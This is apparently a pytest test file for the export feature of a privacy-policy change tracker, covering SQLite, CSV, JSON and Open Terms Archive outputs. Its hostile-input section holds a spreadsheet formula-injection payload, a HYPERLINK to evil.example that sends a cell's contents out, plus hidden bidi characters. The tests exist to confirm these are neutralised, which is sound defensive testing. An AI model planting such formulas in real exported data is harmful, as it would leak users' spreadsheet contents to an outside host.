"""Exports as a person asks for them: of the demonstration's archive, and of a policy that means ill."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import subprocess
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

DOCS = Path(__file__).parents[2] / "docs" / "export.md"
PRIVACY = "Courier/Privacy Policy"
FORMS = {"sqlite": "out.sqlite", "csv": "out", "json": "out.json", "ota": "out"}


@pytest.fixture(scope="session")
def demo(call_tracker_once: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One demonstration for all tests: its archive."""
    out = tmp_path_factory.mktemp("exported") / "demo"
    assert call_tracker_once("demo", "--out", str(out), "-q").code == 0
    return out / "archive.git"


@pytest.fixture
def export(demo: Path, call_tracker: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Export the demonstration into an empty folder, which is the current one."""
    monkeypatch.chdir(tmp_path)

    def export(form: str, *arguments: str, out: str | None = None) -> Path:
        path = tmp_path / (out or FORMS[form])
        ran = call_tracker("export", form, "--archive", str(demo), "--out", str(path), *arguments)
        assert (ran.code, ran.err) == (0, "")
        return path

    return export


def ask(path: Path, query: str) -> list[Any]:
    with closing(sqlite3.connect(path)) as database:
        database.row_factory = sqlite3.Row
        return [dict(row) for row in database.execute(query)]


def read_table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    # Back to the texts as they were, as the documentation says.
    return [{name: cell.removeprefix("'") for name, cell in row.items()} for row in rows]


def git(folder: Path, *arguments: str) -> str:
    done = subprocess.run(["git", "-C", str(folder), *arguments], check=True, capture_output=True, text=True)
    return done.stdout


def bytes_of(path: Path) -> dict[str, bytes]:
    files = [path] if path.is_file() else [item for item in path.rglob("*") if item.is_file()]
    return {str(file.relative_to(path)): file.read_bytes() for file in files}


# ------------------------------------------------------------------------------------------------------------- SQLite


def test_the_database_tells_the_story(export: Any) -> None:
    path = export("sqlite")
    (document,) = ask(path, "SELECT * FROM documents")
    assert (document["document"], document["versions"], document["changes"]) == (PRIVACY, 5, 4)
    assert document["last_seen_at"] > document["last_captured_at"]
    changes = ask(path, "SELECT * FROM changes ORDER BY id")
    assert [change["kind"] for change in changes] == ["editorial", "substantive", "editorial", "substantive"]
    assert [change["material"] for change in changes] == [0, 1, 0, 1]
    assert json.loads(changes[1]["topics"]) == ["law-enforcement"]
    assert changes[1]["page"].startswith("courier/privacy-policy/2024-03-06T")
    (later,) = ask(path, "SELECT * FROM clauses WHERE announced = 'later'")
    assert later["change"] == changes[1]["id"]
    assert later["announced_lag_days"] == pytest.approx(6, abs=0.5)


def test_every_reference_of_the_database_leads_somewhere(export: Any) -> None:
    path = export("sqlite")
    assert ask(path, "PRAGMA foreign_key_check") == []
    assert ask(path, "PRAGMA integrity_check") == [{"integrity_check": "ok"}]
    pairs = ask(
        path,
        "SELECT old.commit_id AS old, new.commit_id AS new FROM changes "
        "JOIN versions AS old ON old.id = old_version JOIN versions AS new ON new.id = new_version ORDER BY changes.id",
    )
    assert [pair["old"] for pair in pairs[1:]] == [pair["new"] for pair in pairs[:-1]]


def test_findings_quote_their_clause(export: Any) -> None:
    rows = ask(export("sqlite"), "SELECT findings.*, old, new FROM findings JOIN clauses ON clauses.id = clause")
    assert rows
    for row in rows:
        for quote, start, text in (
            (row["before"], row["before_start"], row["old"]),
            (row["after"], row["after_start"], row["new"]),
        ):
            assert quote is None or text[start : start + len(quote)] == quote


def test_redlines_rebuild_both_texts(export: Any) -> None:
    for row in ask(export("sqlite"), "SELECT old, new, redline FROM clauses"):
        spans = json.loads(row["redline"])
        assert "".join(text for tag, text in spans if tag != "+") == row["old"]
        assert "".join(text for tag, text in spans if tag != "-") == row["new"]


def test_words_are_found(export: Any) -> None:
    path = export("sqlite")
    found = ask(path, "SELECT change FROM clauses WHERE id IN "
                      "(SELECT rowid FROM clauses_fts WHERE clauses_fts MATCH 'TERRORISM')")  # fmt: skip
    assert {row["change"] for row in found} == {2}
    headlines = ask(path, "SELECT rowid FROM changes_fts WHERE changes_fts MATCH 'disclosure'")
    assert [row["rowid"] for row in headlines] == [2]


def test_the_queries_of_the_documentation_run(export: Any) -> None:
    path = export("sqlite")
    (block,) = re.findall(r"```sql\n(.*?)```", DOCS.read_text(encoding="utf-8"), re.DOTALL)
    answers = [ask(path, query) for query in block.split("\n\n")]
    assert len(answers) == 2
    assert answers[0][0]["first_seen_new"] == "2024-03-14T03:17:00Z"


def test_texts_come_along_where_they_are_asked_for(export: Any) -> None:
    (row,) = ask(export("sqlite"), "SELECT count(markdown) AS texts FROM versions")
    assert row["texts"] == 0
    rows = ask(export("sqlite", "--with-text"), "SELECT markdown FROM versions")
    assert len({row["markdown"] for row in rows}) == 5
    assert all(row["markdown"].startswith("# ") for row in rows)


# ----------------------------------------------------------------------------------------------- the same in all forms


@pytest.mark.parametrize("form", ["sqlite", "csv", "json"])
def test_the_same_archive_gives_the_same_bytes(form: str, export: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    first = export(form, "--with-text", out="first")
    monkeypatch.setenv("TZ", "Pacific/Kiritimati")
    monkeypatch.setenv("LC_ALL", "C")
    assert bytes_of(export(form, "--with-text", out="second")) == bytes_of(first)
    assert bytes_of(export(form, "--with-text", out="first")) == bytes_of(first), "an earlier export is replaced"


def test_csv_says_what_the_database_does(export: Any) -> None:
    database, folder = export("sqlite"), export("csv")
    for table in ("documents", "versions", "changes", "clauses", "findings"):
        rows = ask(database, f"SELECT * FROM {table}")  # noqa: S608 - names of our own
        told = [
            {name: "" if value is None else str(value) for name, value in row.items()}
            for row in rows
        ]  # fmt: skip
        assert read_table(folder / f"{table}.csv") == told
        assert (folder / f"{table}.csv").read_bytes().count(b"\r\n") >= len(rows) + 1


def test_json_says_what_the_database_does(export: Any, demo: Path, call_tracker: Any) -> None:
    told = json.loads(export("json").read_text(encoding="utf-8"))
    assert list(told) == ["schema", "tracker_version", "archive_head", "documents", "versions", "changes"]
    assert told["archive_head"] == git(demo, "rev-parse", "archive").strip()
    database = export("sqlite")
    versions = [
        {name: value for name, value in row.items() if name != "id"} for row in ask(database, "SELECT * FROM versions")
    ]
    assert told["versions"] == versions
    for change, row in zip(told["changes"], ask(database, "SELECT * FROM changes ORDER BY id"), strict=True):
        assert change["schema"] == "tracker.change/1"
        assert (change["id"], change["headline"], change["slug"]) == (row["urn"], row["headline"], row["slug"])
        assert change["stats"]["clauses_changed"] == len(change["clauses"]) == row["clauses_changed"]
        shown = call_tracker("show", PRIVACY, change["new_commit"], "--archive", str(demo), "--json").json
        assert {name: value for name, value in change.items() if name in shown and name != "id"} == {
            name: value for name, value in shown.items() if name != "id"
        }


def test_json_goes_to_standard_output_and_nothing_else_does(export: Any, demo: Path, call_tracker: Any) -> None:
    ran = call_tracker("export", "json", "--archive", str(demo), "--out", "-")
    assert ran.out == export("json").read_text(encoding="utf-8")
    ran = call_tracker("export", "json", "--archive", str(demo), "--out", "-", "--json")
    assert (ran.code, ran.out) == (2, "")


@pytest.mark.parametrize("form", FORMS)
def test_how_much_was_written_is_told(form: str, demo: Path, call_tracker: Any, tmp_path: Path) -> None:
    out = str(tmp_path / FORMS[form])
    told = call_tracker("export", form, "--archive", str(demo), "--out", out, "--json").json
    counts = {"documents": 1, "versions": 5} | ({"changes": 4} if form != "ota" else {})
    assert told == {"schema": "tracker.export-report/1", "format": form, "out": out} | counts


# ------------------------------------------------------------------------------------------------------------- choices


def test_days_are_chosen_and_the_older_version_comes_along(export: Any) -> None:
    path = export("sqlite", "--since", "2024-03-06", "--until", "2024-03-11")
    (change,) = ask(path, "SELECT * FROM changes")
    assert change["first_seen_new"] == "2024-03-06T03:17:00Z"
    assert "announced only 6 days later" in change["headline"], "the announcement came after those days"
    assert [row["captured_at"][:10] for row in ask(path, "SELECT * FROM versions")] == ["2024-03-03", "2024-03-06"]


@pytest.mark.parametrize("form", FORMS)
def test_a_document_that_nobody_knows_is_named_with_a_near_one(
    form: str, demo: Path, call_tracker: Any, tmp_path: Path
) -> None:  # fmt: skip
    ran = call_tracker("export", form, "Courier/Privacy", "--archive", str(demo), "--out", str(tmp_path / "out"))
    assert ran.code == 2
    assert PRIVACY in ran.err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("form", FORMS)
def test_a_bad_day_and_a_missing_place_are_usage_errors(form: str, demo: Path, call_tracker: Any) -> None:
    assert call_tracker("export", form, "--archive", str(demo)).code == 2
    ran = call_tracker("export", form, "--archive", str(demo), "--out", "out", "--since", "yesterday")
    assert ran.code == 2
    assert "--since" in ran.err


@pytest.mark.parametrize("form", FORMS)
def test_what_is_somebody_elses_stays(form: str, demo: Path, call_tracker: Any, tmp_path: Path) -> None:
    out = tmp_path / "out"
    kept = out if form in {"sqlite", "json"} else out / "thesis.txt"
    kept.parent.mkdir(exist_ok=True)
    kept.write_text("mine", encoding="utf-8")
    ran = call_tracker("export", form, "--archive", str(demo), "--out", str(out))
    assert ran.code == 2
    assert "--out" in ran.err
    assert bytes_of(tmp_path) == {str(kept.relative_to(tmp_path)): b"mine"}


# ---------------------------------------------------------------------------------------------- Open Terms Archive


def test_a_collection_has_a_commit_a_version_at_its_time(export: Any, demo: Path) -> None:
    folder = export("ota")
    assert git(folder, "status", "--porcelain", "--branch") == "## main\n"
    assert git(folder, "ls-files") == f"{PRIVACY}.md\n"
    assert (folder / f"{PRIVACY}.md").read_text(encoding="utf-8") == git(demo, "show", f"archive:{PRIVACY}.md")
    said = git(folder, "log", "--reverse", "--name-only", "--format=%aI %cI %s")
    first, *rest = said.split("\n\n")
    assert first == "2024-03-01T03:17:00+00:00 2024-03-01T03:17:00+00:00 First record of Courier Privacy Policy"
    assert len(rest) == 5
    assert said.count("Record new changes of Courier Privacy Policy") == 4
    body = git(folder, "show", "--no-patch", "--format=%b")
    assert body.startswith("This version was recorded after extracting from snapshot http://courier.test/privacy\n\n")
    assert git(demo, "cat-file", "-t", body.partition("Archive-Commit: ")[2].strip()) == "commit\n"


def test_a_collection_is_the_same_commits_each_time(export: Any) -> None:
    assert git(export("ota", out="a"), "log", "--format=%H") == git(export("ota", out="b"), "log", "--format=%H")
    assert git(export("ota", out="c"), "fsck", "--full", "--strict") == ""


def test_what_is_exported_can_be_imported(export: Any, demo: Path, call_tracker: Any) -> None:
    folder = export("ota")
    ran = call_tracker("import", "ota", str(folder), "--archive", "again.git", "--vantage", "courier", "--json")
    assert ran.code == 0
    assert ran.json["counts"] == {"changed": 4, "first-record": 1}

    def told(archive: str) -> Any:
        (document,) = call_tracker("log", "--archive", archive, "--json").json["documents"]
        keys = ("first_seen_new", "kind", "effect", "topics", "headline")
        return [[change[key] for key in keys] for change in document["changes"]]

    assert told("again.git") == told(str(demo))
    again = export("ota", "--vantage", "courier", "--archive", "again.git", out="again")
    assert git(again, "log", "--format=%aI %s %T") == git(folder, "log", "--format=%aI %s %T")


def test_the_first_version_of_the_days_chosen_is_a_first_record(export: Any) -> None:
    subjects = git(export("ota", "--since", "2024-03-06"), "log", "--reverse", "--format=%s").splitlines()
    assert [subject.split(" of ")[0] for subject in subjects] == ["First record", *["Record new changes"] * 2]


def test_days_without_a_version_are_no_collection(demo: Path, call_tracker: Any, tmp_path: Path) -> None:
    out = tmp_path / "out"
    ran = call_tracker("export", "ota", "--archive", str(demo), "--out", str(out), "--until", "2020-01-01")
    assert ran.code == 2
    assert "no version" in ran.err
    assert list(tmp_path.iterdir()) == []


def test_a_collection_is_of_one_vantage(export: Any, call_tracker: Any) -> None:
    folder = export("ota")
    call_tracker("import", "ota", str(folder), "--archive", "again.git", "--vantage", "courier")
    ran = call_tracker("export", "ota", "--archive", "again.git", "--out", "x")
    assert ran.code == 2
    assert "--vantage takes one of courier" in ran.err
    ran = call_tracker("export", "ota", f"courier:{PRIVACY}", "--archive", "again.git", "--out", "x")
    assert ran.code == 2
    assert "add --vantage courier" in ran.err


# --------------------------------------------------------------------------------------------------------- ill meaning

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Your letters, and all of them, are read by nobody at all")'


@pytest.fixture
def hostile(lantern: Any, make_page: Any, sentences: Any) -> Any:
    """A policy with a formula, letters that hide or turn, quotation marks and markup; two documents of two sources."""
    parts = (
        FORMULA.replace("&", "&amp;"),
        "Commas, \u201cquotes\u201d, \u202eturned\u202c and \u200bhidden words stand here.",
    )
    lantern.site.serve("/privacy", make_page(*sentences, *parts))
    assert lantern.run(2).code == 0
    return lantern


def test_a_formula_stays_a_text(hostile: Any) -> None:
    assert hostile.tracker("export", "csv", "--out", "tables").code == 0
    table = hostile.folder / "tables" / "clauses.csv"
    assert FORMULA in [row["new"] for row in read_table(table)]
    with table.open(encoding="utf-8", newline="") as file:
        assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert hostile.tracker("export", "sqlite", "--out", "out.sqlite").code == 0
    assert FORMULA in [row["new"] for row in ask(hostile.folder / "out.sqlite", "SELECT new FROM clauses")]


def test_json_holds_hidden_letters_as_escapes(hostile: Any) -> None:
    ran = hostile.tracker("export", "json", "--out", "-")
    assert not re.search("[\u200b\u202c\u202e]", ran.out)
    assert "\u202eturned" in "".join(clause["new"] for change in ran.json["changes"] for clause in change["clauses"])


def test_documents_and_services_are_chosen(hostile: Any, make_page: Any) -> None:
    hostile.site.serve("/terms", make_page(title="Terms at Mole"))
    hostile.declare("Mole", {"Terms of Service": "/terms"})
    hostile.run(3)
    for name in ("Mole", "Mole/Terms of Service"):
        told = hostile.tracker("export", "json", name, "--out", "-").json
        assert [row["document"] for row in told["documents"]] == ["Mole/Terms of Service"]
        assert {row["document"] for row in told["versions"]} == {"Mole/Terms of Service"}
    assert hostile.tracker("export", "ota", "--out", "all").code == 0
    folder = hostile.folder / "all"
    days = git(folder, "log", "--reverse", "--format=%ad", "--date=format:%d", "--name-only").split("\n\n")
    assert [line for day in days for line in day.splitlines()] == [
        "01", "Lantern/Privacy Policy.md", "02", "Lantern/Privacy Policy.md", "03", "Mole/Terms of Service.md"
    ]  # fmt: skip


def test_the_parts_of_a_combined_document_are_listed(watch: Any, make_page: Any, sentences: Any) -> None:
    watch.site.serve("/one", make_page(*sentences[:4]))
    watch.site.serve("/two", make_page(*sentences[4:]))
    one, two = watch.site.url("/one"), watch.site.url("/two")
    parts = [{"fetch": one, "select": "main"}, {"fetch": two, "select": "main"}]
    watch.declare("Lantern", {"Privacy Policy": {"combine": parts}})
    assert watch.run(1).code == 0
    assert watch.tracker("export", "ota", "--out", "out").code == 0
    body = git(watch.folder / "out", "show", "--no-patch", "--format=%b")
    assert f" 2 source documents:\n- {one}\n- {two}\n\nSource-Url: {one}\nSource-Url: {two}\n" in body
    ran = watch.tracker("import", "ota", "out", "--archive", "again.git", "--json")
    assert ran.json["counts"] == {"first-record": 1}


def test_a_repeated_text_in_other_marks_is_a_technical_commit(lantern: Any, make_page: Any, sentences: Any) -> None:
    linked = make_page(*sentences).replace("our office", '<a href="/office">our office</a>')
    lantern.site.serve("/privacy", linked)
    lantern.run(2)
    assert lantern.tracker("export", "ota", "--out", "out").code == 0
    subjects = git(lantern.folder / "out", "log", "--format=%s").splitlines()
    assert subjects[0] == "Apply technical or declaration upgrade on Lantern Privacy Policy"
    assert len(subjects) == 2
    told = lantern.tracker("export", "json", "--out", "-").json
    assert [row["kind"] for row in told["versions"]] == ["first", "technical"]
    assert told["changes"] == []


def test_an_archive_without_versions_is_an_empty_export(watch: Any) -> None:
    subprocess.run(["git", "init", "--quiet", "--bare", "archive.git"], check=True)
    told = watch.tracker("export", "json", "--out", "-").json
    assert (told["documents"], told["versions"], told["changes"]) == ([], [], [])
    assert watch.tracker("export", "sqlite", "--out", "out.sqlite").code == 0
    assert watch.tracker("export", "ota", "--out", "out").code == 2
    assert not (watch.folder / "out").exists()


def test_an_archive_is_only_read(lantern: Any) -> None:
    before = lantern.head()
    for form, out in FORMS.items():
        assert lantern.tracker("export", form, "--out", f"{form}-{out}").code == 0
    assert lantern.head() == before
